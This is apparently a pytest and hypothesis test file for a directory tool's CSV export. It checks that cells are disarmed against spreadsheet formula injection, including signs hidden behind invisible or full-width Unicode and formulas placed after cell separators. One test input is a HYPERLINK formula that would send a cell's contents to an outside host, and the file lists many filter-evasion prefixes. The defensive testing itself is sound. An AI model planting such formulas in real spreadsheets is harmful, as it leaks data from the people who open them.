"""Lines of a CSV: one row a resource, and no cell that a spreadsheet runs, whatever it drops."""

import csv
import io
import re
import time
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from scim_tui.core.directory.export import Format, texts
from scim_tui.model.csv_safety import csv_line, disarmed
from scim_tui.model.directory import Kind, UserRow

FRONTS = [
    "",
    " ",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u3164",
    "\u2800",
    "\ufe0f",
    "\u0301",
    "\x00",
    "\x1b",
    "\t",
    "\r",
    "\n",
    "\x0b",
    "\x85",
    "\u2028",
    '"',
    "\xa0\u200b\ufeff ",
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁺", "₌", "−"]
ANY_TEXT = st.text(st.sampled_from(["x", "\u0301", "'", ";", ",", "|", *FRONTS[1:-1], *SIGNS]))


def is_formula(cell: str) -> bool:
    """Whether a sheet that drops what draws nothing, and reads wide signs as plain, runs it."""
    for sign in cell:
        if sign in '"\u3164\u2800' or unicodedata.category(sign)[0] in "CZM":
            continue
        return unicodedata.normalize("NFKC", sign) in {*"=+-@", "−"}
    return False


@pytest.mark.parametrize("front", FRONTS)
@pytest.mark.parametrize("sign", SIGNS)
def test_no_sign_in_front_hides_a_formula(front: str, sign: str) -> None:
    assert not is_formula(disarmed(f"{front}{sign}1+1"))


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n", "\t", ";", "|", "\x0b", "\x85", "\u2028"])
def test_a_formula_behind_the_end_of_a_cell_is_disarmed(end: str) -> None:
    cell = disarmed(f'x{end}=HYPERLINK("http://example.com/?"&A1,"click")')
    assert cell == f'x{end}\'=HYPERLINK("http://example.com/?"&A1,"click")'


@given(ANY_TEXT)
@example("\r\n\t;=1")
def test_no_piece_of_any_cell_is_a_formula(text: str) -> None:
    cell = disarmed(text)
    assert not any(map(is_formula, re.split("[;|\t\r\n\x0b\x85\u2028]", cell))), cell
    assert cell.replace("'", "") == text.replace("'", "")


@given(st.lists(st.text(), min_size=2, max_size=4))
def test_a_line_is_read_back_as_its_cells(cells: list[str]) -> None:
    assert list(csv.reader(io.StringIO(csv_line(cells), newline=""))) == [cells]


@pytest.mark.parametrize("form", [Format.CSV, Format.JSONL])
def test_every_person_is_one_row(form: Format) -> None:
    names = [
        f"x{end}=1+1" for end in ("\r", "\r\n", "\n", "\x85", "\u2028", "\x0b", "\x1e", "\x00")
    ]
    people = [
        UserRow(str(n), name, "", "", "", "", "", True, "", "") for n, name in enumerate(names)
    ]
    text = "".join(texts(form, Kind.USERS, [people], ("id", "user_name")))
    if form is Format.JSONL:
        assert len(text.splitlines()) == len(names)
        return
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [len(row) for row in rows] == [2] * (1 + len(names))
    assert [row[1].replace("'", "") for row in rows[1:]] == names
    bare = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert "\r" not in bare
    assert len(bare.splitlines()) == 1 + len(names)


@pytest.mark.parametrize("text", ["\r", ";", "=", "\r=", "'", "\u200b"])
def test_the_cost_grows_with_the_length_only(text: str) -> None:
    def cost(length: int) -> float:
        begun = time.process_time()
        disarmed(text * length)
        return time.process_time() - begun

    few = min(cost(50_000) for _ in range(3))
    assert cost(200_000) < 12 * few + 0.05
